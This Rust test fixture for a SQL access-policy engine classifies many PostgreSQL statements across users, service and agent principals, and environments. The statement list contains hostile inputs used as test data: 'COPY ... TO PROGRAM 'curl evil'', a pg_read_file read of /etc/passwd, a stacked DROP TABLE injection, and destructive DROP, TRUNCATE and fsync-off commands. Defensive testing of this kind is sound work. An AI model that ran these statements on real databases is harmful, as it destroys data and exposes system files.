//! Test inputs: many statements, principals and connections, classified
//! by the real classifier. Used to pin the input encoding and the compiled
//! evaluator to the interpreter.

use crate::input::{ClientInput, PolicyInput, SessionInput, TimeInput};
use vigil_core::{ConnectionInfo, Principal, PrincipalKind};

const SQL: &[&str] = &[
    "SELECT 1",
    "SELECT id, email FROM public.users WHERE id = 1",
    "SELECT * FROM users u JOIN payments p ON p.user_id = u.id LIMIT 10",
    "SELECT * FROM orders",
    "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone",
    "INSERT INTO orders (id, total) VALUES (1, 2) RETURNING id",
    "UPDATE orders SET total = 0",
    "UPDATE orders SET total = 0 WHERE true",
    "UPDATE orders SET total = 0 WHERE id = 3",
    "DELETE FROM orders",
    "DELETE FROM orders WHERE id = 7",
    "DROP TABLE orders",
    "TRUNCATE orders",
    "CREATE TABLE t (id int)",
    "ALTER TABLE orders ADD COLUMN note text",
    "GRANT ALL ON orders TO public",
    "SET ROLE postgres",
    "SET statement_timeout = 0",
    "ALTER SYSTEM SET fsync = off",
    "COPY orders TO PROGRAM 'curl evil'",
    "COPY orders TO STDOUT WITH (FORMAT csv)",
    "SELECT pg_read_file('/etc/passwd')",
    "DO $$ BEGIN PERFORM 1; END $$",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
    "SELECT 1; DROP TABLE orders",
    "BEGIN",
    "NOTIFY ch, 'x'",
    "DELETE FRM orders",
    "",
];

fn principal(kind: PrincipalKind, groups: &[&str]) -> Principal {
    Principal {
        subject: "alice".into(),
        email: Some("alice@example.com".into()),
        groups: groups.iter().map(|g| (*g).to_owned()).collect(),
        issuer: "https://idp.example.com".into(),
        token_id: None,
        expires_at: 0,
        kind,
    }
}

fn connection(env: &str, labels: &[(&str, &str)], opaque: bool) -> ConnectionInfo {
    ConnectionInfo {
        name: format!("shop-{env}"),
        engine: "postgres".into(),
        environment: env.into(),
        labels: labels
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect(),
        allow_opaque_code: opaque,
    }
}

/// Every statement × principal × connection.
pub fn corpus() -> Vec<PolicyInput> {
    let principals = [
        principal(PrincipalKind::Human, &["dev"]),
        principal(PrincipalKind::Human, &["dba", "admin"]),
        principal(PrincipalKind::Service, &[]),
        principal(PrincipalKind::Agent, &["dev"]),
    ];
    let connections = [
        connection("production", &[], false),
        connection("prod", &[("team", "payments")], false),
        connection("staging", &[], false),
        connection("dev", &[("sensitive", "true")], true),
        connection("dev", &[], false),
    ];
    let mut out = Vec::new();
    for sql in SQL {
        let msg = vigil_sql::classify(sql);
        for p in &principals {
            for c in &connections {
                out.push(
                    PolicyInput::new(p, c, &msg)
                        .with_client(ClientInput {
                            application_name: "psql".into(),
                            address: "127.0.0.1".into(),
                            tls: true,
                        })
                        .with_session(SessionInput {
                            in_transaction: true,
                            statements_so_far: 3,
                        })
                        .with_time(TimeInput {
                            rfc3339: "2026-11-21T16:00:00+01:00".into(),
                            weekday: "saturday".into(),
                            hour: 16,
                        }),
                );
            }
        }
    }
    out
}
